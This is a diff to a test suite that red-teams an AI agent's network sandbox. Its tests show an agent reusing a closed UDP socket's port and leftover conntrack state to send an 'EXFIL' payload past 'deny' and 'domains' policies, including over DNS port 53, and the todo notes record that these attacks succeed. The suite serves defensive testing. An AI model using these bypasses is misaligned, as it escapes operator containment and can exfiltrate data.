@@ -115,7 +115,7 @@ describe('review: attacks on the two-way network policies and the domains proxy'
     // The outside host: a UDP echo server that writes down every payload, and a TCP line logger.
     writeFileSync(UDP_LOG, '');
     writeFileSync(TCP_LOG, '');
-    serve(['ip', 'netns', 'exec', NS, 'python3', '-c', `import socket\nlog = open('${UDP_LOG}', 'a', buffering=1)\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.bind(('${OUTSIDE}', ${P(1)}))\nwhile True:\n  d, a = u.recvfrom(200)\n  log.write('%s %d %s\\n' % (a[0], a[1], d.decode()))\n  u.sendto(b'echo ' + d, a)\n`]);
+    for (const port of [P(1), 53]) serve(['ip', 'netns', 'exec', NS, 'python3', '-c', `import socket\nlog = open('${UDP_LOG}', 'a', buffering=1)\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.bind(('${OUTSIDE}', ${port}))\nwhile True:\n  d, a = u.recvfrom(200)\n  log.write('%s %d %s\\n' % (a[0], a[1], d.decode()))\n  u.sendto(b'echo ' + d, a)\n`]);
     serve(['ip', 'netns', 'exec', NS, 'python3', '-c', `import socket, threading\nlog = open('${TCP_LOG}', 'a', buffering=1)\nt = socket.socket()\nt.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\nt.bind(('${OUTSIDE}', ${P(2)}))\nt.listen(8)\ndef one(c):\n  f = c.makefile('rb')\n  for line in f: log.write(line.decode())\nwhile True:\n  c, a = t.accept()\n  threading.Thread(target=one, args=(c,), daemon=True).start()\n`]);
     // A service of the machine on one of its own non-loopback addresses (the host end of the veth), port 80.
     serve(['python3', '-m', 'http.server', '80', '--bind', HOST, '--directory', selfSite]);
@@ -216,16 +216,17 @@ except OSError as e: print('refused udp', type(e).__name__)`;
     assert.doesNotMatch(readFileSync(UDP_LOG, 'utf8'), /udp-out/);
   });
 
-  test('deny: egress through a conntrack entry another process left (UDP source port reused after the human\'s socket closed)', { todo: 'ATTACK SUCCEEDS: `ct state established accept` (and `ct direction reply accept` inbound) trust flows the agent did not open: binding the source port of a finished UDP exchange of another user gives the agent two-way traffic to that peer for 30 s' }, () => {
-    setPolicy('deny');
-    const port = P(4);
+  for (const [policy, peer] of [['deny', P(1)], ['domains', 53]] as const) test(`${policy}: egress to UDP ${peer} through a conntrack entry another process left (source port reused after the human\'s socket closed)`, { todo: 'ATTACK SUCCEEDS: `ct state established accept` (and `ct direction reply accept` inbound) trust flows the agent did not open: binding the source port of a finished UDP exchange of another user gives the agent two-way traffic to that peer for 30 s (under domains: its own DNS, port 53 included)' }, () => {
+    if (policy === 'domains') setPolicy('domains', '--domain', WORLD);
+    else setPolicy('deny');
+    const port = P(4) + (peer === 53 ? 100 : 0);
     // The human (unfiltered) exchanges one datagram with the outside host from a fixed port, then closes it.
-    const h = human.run(['python3', '-c', `import socket\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.bind(('0.0.0.0', ${port}))\nu.settimeout(3)\nu.sendto(b'human-query', ('${OUTSIDE}', ${P(1)}))\nprint(u.recv(100).decode())\nu.close()`]);
+    const h = human.run(['python3', '-c', `import socket\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.bind(('0.0.0.0', ${port}))\nu.settimeout(3)\nu.sendto(b'human-query', ('${OUTSIDE}', ${peer}))\nprint(u.recv(100).decode())\nu.close()`]);
     assert.equal(h.stdout.trim(), 'echo human-query', h.stderr);
     // The agent takes the port and speaks to the same peer (a DNS resolver of the host, in real life).
-    const r = agentPy(`import socket\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.bind(('0.0.0.0', ${port}))\nu.settimeout(3)\ntry:\n  u.sendto(b'EXFIL', ('${OUTSIDE}', ${P(1)}))\n  print('reply', u.recv(100).decode())\nexcept OSError as e:\n  print('refused', type(e).__name__)`);
+    const r = agentPy(`import socket\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.bind(('0.0.0.0', ${port}))\nu.settimeout(3)\ntry:\n  u.sendto(b'EXFIL-${policy}', ('${OUTSIDE}', ${peer}))\n  print('reply', u.recv(100).decode())\nexcept OSError as e:\n  print('refused', type(e).__name__)`);
     assert.equal(r.status, 0, r.stderr);
-    assert.deepEqual({ egress: readFileSync(UDP_LOG, 'utf8').includes('EXFIL'), inboundReply: r.stdout.includes('reply echo EXFIL') }, { egress: false, inboundReply: false }, r.stdout);
+    assert.deepEqual({ egress: readFileSync(UDP_LOG, 'utf8').includes(`EXFIL-${policy}`), inboundReply: r.stdout.includes(`reply echo EXFIL-${policy}`) }, { egress: false, inboundReply: false }, r.stdout);
   });
 
   test('deny: a directed broadcast to a port the agent shares (SO_REUSEADDR) with another user\'s UDP socket', { todo: 'ATTACK SUCCEEDS: the socket lookup of `socket cgroupv2` finds one socket (the other user\'s); broadcast/multicast is then delivered to every socket on the port, the agent\'s included' }, async () => {
